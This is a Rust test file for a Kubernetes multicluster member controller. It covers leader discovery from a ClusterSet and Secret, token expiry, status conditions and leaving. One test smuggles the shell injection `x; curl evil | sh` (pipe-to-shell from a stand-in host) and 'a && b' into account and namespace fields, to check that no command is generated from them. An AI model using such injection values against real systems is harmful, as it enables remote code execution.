//! The way to the leader, and what the ClusterSet says of it.

use antrea_kit::watch::WatchEvent;
use antrea_mc_member::action::ensure_status;
use antrea_mc_member::condition::Condition;
use antrea_mc_member::kind::Kind;
use antrea_mc_member::leader::{Credentials, Fault, Link, Said, Wish, leaving, status, unusable, wish};
use antrea_mc_member::objects::{Key, Objects};
use jiff::Timestamp;

use crate::objects::{Cluster, read};

const SET: &str = "
kind: ClusterSet
metadata: {name: set, namespace: kube-system, generation: 3}
spec: {clusterID: west, namespace: area, leaders: [{clusterID: east, server: 'https://east:6443', secret: token}]}
---
";
const SECRET: &str =
    "{kind: Secret, metadata: {name: token, namespace: kube-system}, data: {ca.crt: Y2E=, token: dG9rZW4=}}";

#[track_caller]
fn check(yaml: &str) -> String {
    match wish(&Cluster::of(yaml).objects, "kube-system", None).unwrap() {
        Wish::Leave => "leave".to_owned(),
        Wish::Incomplete { cluster, why, .. } => {
            format!("{}: {why}", cluster.map(|cluster| cluster.to_string()).unwrap_or_default())
        }
        Wish::Join(target) => {
            let Credentials { ca, token } = &target.credentials;
            let ca = ca.as_deref().map(String::from_utf8_lossy);
            format!(
                "{} joins {} of {} at {} in {} with {token} {ca:?}",
                target.cluster, target.set, target.leader, target.server, target.area
            )
        }
    }
}

#[test]
fn the_cluster_set_and_its_secret_say_who_the_leader_is() {
    insta::assert_snapshot!(check(&format!("{SET}{SECRET}")), @r#"west joins set of east at https://east:6443 in area with token Some("ca")"#);
}

#[test]
fn without_a_cluster_set_the_member_leaves() {
    assert_eq!(check(SECRET), "leave");
    assert_eq!(check(&SET.replace("kube-system", "other")), "leave");
}

#[test]
fn what_is_missing_is_named() {
    let all = format!("{SET}{SECRET}");
    insta::assert_snapshot!(check(SET), @"west: there is no Secret kube-system/token");
    insta::assert_snapshot!(check(&all.replace("token: dG9rZW4=", "token: ''")), @"west: Secret kube-system/token has no token; `antctl mc create membertoken` in the leader cluster makes one");
    insta::assert_snapshot!(check(&all.replace("server: 'https://east:6443', ", "")), @"west: spec.leaders[0].server is missing; a member needs it");
    insta::assert_snapshot!(check(&all.replace("leaders: [{clusterID: east, server: 'https://east:6443', secret: token}]", "leaders: []")), @"west: spec.leaders is empty; name the leader");
    insta::assert_snapshot!(check(&all.replace("clusterID: west", "clusterID: West")), @r#": spec.clusterID: "West" is not a valid cluster ID: lower-case letters, digits, '-' and '.', 63 bytes at most, beginning and ending with a letter or digit"#);
}

#[test]
fn the_command_that_makes_a_new_token_names_the_service_account_and_the_cluster() {
    let command = |yaml: &str| match wish(&Cluster::of(yaml).objects, "kube-system", None).unwrap() {
        Wish::Join(target) => target.token_command(),
        other => panic!("{other:?}"),
    };
    let all = format!("{SET}{SECRET}");
    let of_secret = "antctl mc create membertoken token --cluster-id west -n area";
    assert_eq!(command(&all).as_deref(), Some(of_secret));
    // {"sub":"system:serviceaccount:area:of-west","iat":1,"exp":2}, between two other parts.
    let token = "aC5leUp6ZFdJaU9pSnplWE4wWlcwNmMyVnlkbWxqWldGalkyOTFiblE2WVhKbFlUcHZaaTEzWlhOMElpd2lhV0YwSWpveExDSmxlSEFpT2pKOS5z";
    let of_account = "antctl mc create membertoken of-west --cluster-id west -n area";
    assert_eq!(command(&all.replace("dG9rZW4=", token)).as_deref(), Some(of_account));
    // The same with the account `x; curl evil | sh`.
    let token = "aC5leUp6ZFdJaU9pSnplWE4wWlcwNmMyVnlkbWxqWldGalkyOTFiblE2WVhKbFlUcDRPeUJqZFhKc0lHVjJhV3dnZkNCemFDSXNJbWxoZENJNk1Td2laWGh3SWpveWZRLnM=";
    assert_eq!(command(&all.replace("dG9rZW4=", token)), None);
    assert_eq!(command(&all.replace("namespace: area", "namespace: 'a && b'")), None);
}

#[test]
fn a_token_that_expired_asks_for_a_command_of_names_alone() {
    let cluster = Cluster::of(SET);
    let set = cluster.objects.get(&Key::new(Kind::ClusterSet, "kube-system", "set")).unwrap();
    let said = |command: Option<&str>| {
        let (since, secret) = (Timestamp::UNIX_EPOCH, "token".to_owned());
        let link = Link::Expired { since, secret, command: command.map(str::to_owned) };
        let said = Said { link: &link, not_renewed: None, unusable: None, told: &[], leaving: None };
        let status = status(set, &said, "east", Timestamp::UNIX_EPOCH);
        status["conditions"][1]["message"].as_str().unwrap().to_owned()
    };
    let expired = "The token in Secret token expired at 1970-01-01T00:00:00Z. ";
    assert!(
        said(Some("antctl"))
            .starts_with(&format!("{expired}In the leader cluster run `antctl -o token.yaml`, then "))
    );
    assert!(
        said(None).starts_with(&format!("{expired}Ask an admin of the leader for another one, then here `"))
    );
}

#[test]
fn nothing_is_wanted_before_all_is_known() {
    let mut objects = Objects::default();
    assert_eq!(wish(&objects, "kube-system", None), None);
    objects.learn(Kind::ClusterSet, WatchEvent::Resynced(Vec::new()));
    assert_eq!(wish(&objects, "kube-system", None), Some(Wish::Leave), "whatever Secrets there are");
    objects.learn(Kind::ClusterSet, WatchEvent::Applied(read(SET).remove(0)));
    assert_eq!(wish(&objects, "kube-system", None), None, "the Secret may be there");
}

#[test]
fn a_cluster_set_that_names_another_secret_says_so_and_the_old_link_goes_on() {
    let set = SET.replace("secret: token", "secret: other");
    let cluster = Cluster::of(&format!("{set}{SECRET}"));
    let Some(Wish::Join(target)) = wish(&cluster.objects, "kube-system", Some("token")) else {
        panic!("the Secret that the controller may read is not used");
    };
    assert_eq!((target.secret.as_str(), target.credentials.token.as_str()), ("token", "token"));
    let why = unusable(&cluster.objects, "kube-system", Some("token"), None).unwrap();
    let set = cluster.objects.get(&Key::new(Kind::ClusterSet, "kube-system", "set")).unwrap();
    let said =
        Said { link: &Link::Connected, not_renewed: None, unusable: Some(&why), told: &[], leaving: None };
    let status = status(set, &said, "east", Timestamp::UNIX_EPOCH);
    let condition = &status["conditions"][2];
    assert_eq!(condition["type"], "CredentialUnusable");
    assert_eq!(condition["reason"], "AnotherSecret");
    insta::assert_snapshot!(condition["message"].as_str().unwrap(), @"spec.leaders[0].secret is other, and the controller may read Secret token alone, which it uses: name that one, or run `helm upgrade RELEASE CHART -n kube-system --reuse-values --set controller.member.tokenSecret=other`");
}

#[test]
fn the_secret_that_the_configuration_names_is_needed() {
    let check = |yaml: &str| match wish(&Cluster::of(yaml).objects, "kube-system", Some("token")) {
        Some(Wish::Incomplete { why, .. }) => why,
        other => panic!("{other:?}"),
    };
    assert_eq!(check(SET), "there is no Secret kube-system/token");
    let why = check(&SET.replace("secret: token", "secret: other"));
    assert!(
        why.starts_with("there is no Secret kube-system/token; spec.leaders[0].secret is other, "),
        "{why}"
    );
    for configured in [None, Some("token")] {
        assert_eq!(unusable(&Cluster::of(SET).objects, "kube-system", configured, None), None);
    }
}

#[test]
fn a_token_says_when_it_expires() {
    // {"exp":1800000000} and {"sub":"x"} between two other parts.
    for (token, expire) in [
        ("h.eyJleHAiOjE4MDAwMDAwMDB9.s", Some("2027-01-15T08:00:00Z")),
        ("h.eyJzdWIiOiJ4In0.s", None),
        ("opaque", None),
        ("a.%.b", None),
    ] {
        let credentials = Credentials { ca: None, token: token.to_owned() };
        assert_eq!(credentials.expire().map(|time| time.to_string()).as_deref(), expire, "{token}");
        assert!(!format!("{credentials:?}").contains(token), "the token is in the log");
    }
}

#[test]
fn the_cluster_set_says_what_the_leader_says_of_the_member() {
    let cluster = Cluster::of(SET);
    let set = cluster.objects.get(&Key::new(Kind::ClusterSet, "kube-system", "set")).unwrap();
    let conflict = Condition::new("Conflict", "True", "NetworkRefused", "10.2.0.0/24 is of cluster west");
    let unapproved = Condition::new("NetworkUnapproved", "True", "NotBound", "1.1.1.0/24 is bound to nobody");
    let taken = Link::Taken("cluster ID west is that of another cluster".to_owned());
    let told = [conflict, unapproved];
    let said = |link, told| {
        let said = Said { link, not_renewed: None, unusable: None, told, leaving: None };
        let status = status(set, &said, "east", Timestamp::UNIX_EPOCH);
        let all = status["conditions"].as_array().unwrap().clone();
        let line = |of: &serde_json::Value| {
            let part = |name: &str| of[name].as_str().unwrap_or_default().to_owned();
            format!("{}={} {}\n", part("type"), part("status"), part("reason"))
        };
        all.iter().map(line).collect::<String>()
    };
    assert_eq!(
        said(&Link::Connected, &told),
        "Ready=True \nCredentialExpired=False TokenValid\nConflict=True NetworkRefused\nNetworkUnapproved=True NotBound\n"
    );
    assert_eq!(said(&Link::Connected, &[]), "Ready=True \nCredentialExpired=False TokenValid\n");
    assert_eq!(said(&taken, &told), "Ready=False \nConflict=True DuplicateClusterID\n");
}

#[test]
fn the_cluster_set_says_that_its_secret_cannot_be_used() {
    let cluster = Cluster::of(SET);
    let set = cluster.objects.get(&Key::new(Kind::ClusterSet, "kube-system", "set")).unwrap();
    let said = |no_way| {
        let unusable = unusable(&cluster.objects, "kube-system", None, no_way);
        let said = Said {
            link: &Link::Connected,
            not_renewed: None,
            unusable: unusable.as_ref(),
            told: &[],
            leaving: None,
        };
        status(set, &said, "east", Timestamp::UNIX_EPOCH)["conditions"][2].clone()
    };
    assert_eq!(said(None), serde_json::Value::Null);
    insta::assert_snapshot!(said(Some("there is no certificate")), @r#"{"type":"CredentialUnusable","status":"True","reason":"Unreadable","message":"spec.leaders[0] and Secret token cannot be used, and the previous connection stays in use: there is no certificate","lastTransitionTime":"1970-01-01T00:00:00Z"}"#);
}

#[test]
fn a_secret_that_cannot_be_used_and_another_that_is_named_are_told_in_one_condition() {
    let cluster = Cluster::of(&SET.replace("secret: token", "secret: other"));
    let why = unusable(&cluster.objects, "kube-system", Some("token"), Some("there is no certificate"));
    let why = why.unwrap();
    assert_eq!(why.reason, "Unreadable");
    let both = "spec.leaders[0] and Secret token cannot be used, and the previous connection stays in use: there is no \
                certificate; spec.leaders[0].secret is other, and ";
    assert!(why.message.starts_with(both), "{}", why.message);
}

/// While it is being deleted, and held by this.
fn deleted(finalizer: &str) -> String {
    let metadata = format!("deletionTimestamp: '2026-11-21T09:48:00Z', finalizers: [{finalizer}]");
    SET.replace("generation: 3", &metadata)
}

#[test]
fn the_leader_of_a_cluster_set_that_is_deleted_is_told_while_the_finalizer_holds_it() {
    let way = |yaml: &str| leaving(&Cluster::of(yaml).objects, "kube-system", None);
    assert_eq!(way(&format!("{SET}{SECRET}")), None);
    assert_eq!(way(&format!("{}{SECRET}", deleted("foregroundDeletion"))), None, "somebody else holds it");
    let held = deleted("multicluster.antrea.io/leave");
    let (set, target) = way(&format!("{held}{SECRET}")).unwrap();
    assert_eq!((set.name.as_str(), target.unwrap().area.as_str()), ("set", "area"));
    assert_eq!(way(&held).unwrap().1.unwrap_err(), "there is no Secret kube-system/token");
}

#[test]
fn the_cluster_set_says_how_far_this_cluster_has_come_with_leaving() {
    let cluster = Cluster::of(SET);
    let set = cluster.objects.get(&Key::new(Kind::ClusterSet, "kube-system", "set")).unwrap();
    let leaving = Some("the leader was not told yet");
    let said = Said { link: &Link::Connecting, not_renewed: None, unusable: None, told: &[], leaving };
    let status = status(set, &said, "east", Timestamp::UNIX_EPOCH);
    for conditions in [&status["conditions"], &status["clusterStatuses"][0]["conditions"]] {
        let ready = &conditions[0];
        let told = ["type", "status", "reason", "message"].map(|part| ready[part].as_str().unwrap());
        assert_eq!(told, ["Ready", "False", "Leaving", "the leader was not told yet"]);
    }
}

#[test]
fn the_status_follows_the_connection_in_upstreams_words() {
    let mut cluster = Cluster::of(SET);
    let key = Key::new(Kind::ClusterSet, "kube-system", "set");
    let since = Timestamp::from_second(1_799_999_000).unwrap();
    let mut told = String::new();
    let refused = Some("the leader gives no new token");
    for (second, link, not_renewed) in [
        (0, Link::Connecting, None),
        (1, Link::Connected, None),
        (2, Link::Connected, None),
        (3, Link::Disconnected(Fault::no_way("connection refused".to_owned())), None),
        (4, Link::Connected, refused),
        (
            5,
            Link::Expired {
                since,
                secret: "token".to_owned(),
                command: Some("antctl mc create ...".to_owned()),
            },
            refused,
        ),
        (6, Link::Connected, None),
    ] {
        let now = Timestamp::from_second(1_800_000_000 + second).unwrap();
        let set = cluster.objects.get(&key).unwrap();
        let said = Said { link: &link, not_renewed, unusable: None, told: &[], leaving: None };
        let action = ensure_status(&key, set, &status(set, &said, "east", now));
        let Some(action) = action else {
            told.push_str("nothing new\n");
            continue;
        };
        told.push_str(&format!("{action}\n"));
        cluster.carry_out(&action);
    }
    insta::assert_snapshot!(told);
}
